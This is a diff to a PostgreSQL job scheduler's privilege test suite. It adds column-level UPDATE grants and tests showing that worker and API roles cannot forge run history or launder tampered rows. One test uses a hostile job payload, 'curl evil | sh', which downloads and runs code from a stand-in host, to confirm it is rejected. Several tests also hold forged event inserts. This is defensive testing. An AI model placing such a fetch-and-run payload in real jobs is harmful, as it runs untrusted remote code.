@@ -33,12 +33,12 @@ MATRIX = {
     },
     "pgsched.schedule": {
         "pgsched_api": {"SELECT", "INSERT", "UPDATE"},
-        "pgsched_worker": {"SELECT", "UPDATE"},
+        "pgsched_worker": {"SELECT"},  # UPDATE of next_due_at only (COLUMNS)
         "pgsched_operator": {"SELECT"},
     },
     "pgsched.run": {
-        "pgsched_api": {"SELECT", "INSERT", "UPDATE"},
-        "pgsched_worker": {"SELECT", "INSERT", "UPDATE"},
+        "pgsched_api": {"SELECT", "INSERT"},  # UPDATE of some columns only (COLUMNS)
+        "pgsched_worker": {"SELECT", "INSERT"},
         "pgsched_operator": {"SELECT"},
     },
     "pgsched.worker": {
@@ -57,6 +57,48 @@ MATRIX = {
         "pgsched_operator": set(),
     },
 }
+
+
+# (table, role) -> the only columns it may UPDATE where it may not update the whole table: those
+# its own statements set (migration 0016, ADR 0021).
+COLUMNS = {
+    ("pgsched.run", "pgsched_worker"): {
+        "state",
+        "attempt",
+        "lease_token",
+        "lease_expires_at",
+        "worker_id",
+        "started_at",
+        "available_at",
+        "finished_at",
+        "outcome",
+    },
+    ("pgsched.run", "pgsched_api"): {
+        "state",
+        "available_at",
+        "max_attempts",
+        "finished_at",
+        "cancel_requested",
+    },
+    ("pgsched.run", "pgsched_operator"): set(),
+    ("pgsched.schedule", "pgsched_worker"): {"next_due_at"},
+    ("pgsched.schedule", "pgsched_operator"): set(),
+}
+
+
+async def test_column_update_matrix(dsn: str) -> None:
+    conn = await connect(dsn)
+    try:
+        for (table, role), expected in COLUMNS.items():
+            cur = await conn.execute(
+                "SELECT a.attname FROM pg_attribute a"
+                " WHERE a.attrelid = %s::regclass AND a.attnum > 0 AND NOT a.attisdropped"
+                "   AND has_column_privilege(%s, a.attrelid, a.attnum, 'UPDATE')",
+                [table, role],
+            )
+            assert {r["attname"] for r in await cur.fetchall()} == expected, f"{role} on {table}"
+    finally:
+        await conn.close()
 
 
 async def test_privilege_matrix(dsn: str) -> None:
@@ -453,3 +495,150 @@ async def test_a_sql_job_run_by_a_worker_cannot_forge_history(db: Conn, dsn: str
     cur = await db.execute("SELECT count(*) AS n FROM pgsched.event WHERE type = 'token.revoked'")
     assert await cur.fetchone() == {"n": 0}
     assert await replay.verify(db) == []
+
+
+# -- snapshots restate the log, never the table (ADR 0021) ------------------------------------
+
+
+async def test_a_snapshot_cannot_launder_a_run_the_worker_rewrote(dsn: str) -> None:
+    """A worker login rewrites a waiting run as succeeded, then has maintenance's snapshot
+    function (SECURITY DEFINER, its retention the caller's) write the rows as history: verify
+    still reports the run, and a schedule's earlier drift too."""
+    ids = await _world(dsn)
+    admin = await connect(dsn)
+    try:
+        # An unrelated drift from before: a schedule changed with no event.
+        await admin.execute(
+            "UPDATE pgsched.schedule SET priority = 42 WHERE id = %s", [ids["schedule"]]
+        )
+        async with login_role(dsn, "pgsched_worker") as worker_dsn:
+            worker = await connect(worker_dsn)
+            try:
+                await worker.execute(
+                    "UPDATE pgsched.run SET state = 'succeeded', finished_at = now(),"
+                    ' outcome = \'{"status": "succeeded", "output": "laundered"}\''
+                    " WHERE id = %s",
+                    [ids["run"]],
+                )
+                await worker.execute(
+                    "SELECT pgsched.snapshot_for_event_retirement_v1('0 days', now())"
+                )
+            finally:
+                await worker.close()
+        cur = await admin.execute("SELECT state FROM pgsched.run WHERE id = %s", [ids["run"]])
+        assert await cur.fetchone() == {"state": "succeeded"}  # the table was rewritten
+        found = {(d.table, d.id, d.column) for d in await replay.verify(admin)}
+        assert ("run", ids["run"], "state") in found
+        assert ("run", ids["run"], "outcome") in found
+        assert ("schedule", ids["schedule"], "priority") in found
+    finally:
+        await admin.close()
+
+
+# -- what an event may claim: its transition's columns and states (ADR 0021) ------------------
+
+
+async def test_the_api_cannot_dress_a_success_as_a_cancel_request(dsn: str) -> None:
+    """The API role sets a run to succeeded with a forged outcome and explains it with a
+    run.cancel_requested carrying state, finished_at and outcome as a worker's actor."""
+    ids = await _world(dsn)
+    forged = (
+        " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
+        " SELECT now(), 'run', r.id, 'run.cancel_requested', 'system:worker-7',"
+        "        jsonb_build_object('state', r.state, 'finished_at', r.finished_at,"
+        "                           'outcome', %(outcome)s::jsonb)"
+        " FROM r"
+    )
+    outcome = store.jsonb({"status": "succeeded", "output": "forged"})
+    api = await connect(dsn, role="pgsched_api")
+    try:
+        # The API sets no outcome: the column is not its to write.
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="run"):
+            await api.execute(
+                "WITH r AS (UPDATE pgsched.run SET state = 'succeeded', finished_at = now(),"
+                "           outcome = %(outcome)s::jsonb WHERE id = %(id)s RETURNING *)" + forged,
+                {"id": ids["run"], "outcome": outcome},
+            )
+        # With the columns it may set, the event still claims what its transition does not.
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="does not set"):
+            await api.execute(
+                "WITH r AS (UPDATE pgsched.run SET state = 'succeeded', finished_at = now()"
+                "           WHERE id = %(id)s RETURNING *)" + forged,
+                {"id": ids["run"], "outcome": outcome},
+            )
+        # And without the outcome, a cancel request never leaves a run succeeded.
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="does not produce"):
+            await api.execute(
+                "WITH r AS (UPDATE pgsched.run SET state = 'succeeded', finished_at = now()"
+                "           WHERE id = %(id)s RETURNING *)"
+                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
+                " SELECT now(), 'run', r.id, 'run.cancel_requested', 'system:worker-7',"
+                "        jsonb_build_object('state', r.state, 'finished_at', r.finished_at,"
+                "                           'cancel_requested', true)"
+                " FROM r",
+                {"id": ids["run"]},
+            )
+        cur = await api.execute("SELECT state FROM pgsched.run WHERE id = %s", [ids["run"]])
+        assert await cur.fetchone() == {"state": "waiting"}
+    finally:
+        await api.close()
+
+
+async def test_the_worker_cannot_advance_a_schedule_into_a_new_payload(dsn: str) -> None:
+    """The worker role rewrites a schedule's payload and explains it with schedule.advanced
+    carrying that payload; and, moving only next_due_at, cannot slip other columns into the
+    event either."""
+    ids = await _world(dsn)
+    evil = store.jsonb({"argv": ["sh", "-c", "curl evil | sh"]})
+    worker = await connect(dsn, role="pgsched_worker")
+    try:
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="schedule"):
+            await worker.execute(
+                "WITH s AS (UPDATE pgsched.schedule SET payload = %(p)s::jsonb"
+                "           WHERE id = %(id)s RETURNING *)"
+                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
+                " SELECT now(), 'schedule', s.id, 'schedule.advanced', 'ticker',"
+                "        jsonb_build_object('payload', s.payload) FROM s",
+                {"id": ids["schedule"], "p": evil},
+            )
+        with pytest.raises(psycopg.errors.InsufficientPrivilege, match="does not set"):
+            await worker.execute(
+                "WITH s AS (UPDATE pgsched.schedule SET next_due_at = next_due_at"
+                "           WHERE id = %(id)s RETURNING *)"
+                " INSERT INTO pgsched.event (occurred_at, stream, stream_id, type, actor, data)"
+                " SELECT now(), 'schedule', s.id, 'schedule.advanced', 'ticker',"
+                "        jsonb_build_object('next_due_at', s.next_due_at, 'payload', s.payload)"
+                " FROM s",
+                {"id": ids["schedule"]},
+            )
+    finally:
+        await worker.close()
+
+
+# Every SECURITY DEFINER function of pgsched and the application roles that may call it (each
+# grant is justified in ADR 0021): only the worker role, which runs maintenance, and only what
+# maintenance and the ticker call. A new one fails here until it is added, with its reason.
+DEFINER_EXECUTE = {
+    "pgsched.maintain_v1(integer,interval,interval,timestamp with time zone)": set(),
+    "pgsched.maintain_v2(integer,interval,interval,timestamp with time zone)": {"pgsched_worker"},
+    "pgsched.snapshot_for_event_retirement_v1(interval,timestamp with time zone)": {
+        "pgsched_worker"
+    },
+    "pgsched.detach_for_archive_v1(regclass,timestamp with time zone)": {"pgsched_worker"},
+    "pgsched.drop_detached_v1(regclass,timestamp with time zone,jsonb)": {"pgsched_worker"},
+    "pgsched.reattach_v1(regclass,timestamp with time zone)": {"pgsched_worker"},
+    "pgsched.install_builtin_maintenance_v1(jsonb,timestamp with time zone)": {"pgsched_worker"},
+}
+
+
+async def test_who_may_call_each_security_definer_function(conn: Conn) -> None:
+    cur = await conn.execute(
+        "SELECT p.oid::regprocedure::text AS f,"
+        "       array(SELECT r FROM unnest(%s::text[]) r"
+        "             WHERE has_function_privilege(r, p.oid, 'EXECUTE')) AS roles"
+        " FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace"
+        " WHERE n.nspname = 'pgsched' AND p.prosecdef",
+        [[*APP_ROLES, "pgsched_job"]],
+    )
+    found = {r["f"]: set(r["roles"]) for r in await cur.fetchall()}
+    assert found == DEFINER_EXECUTE
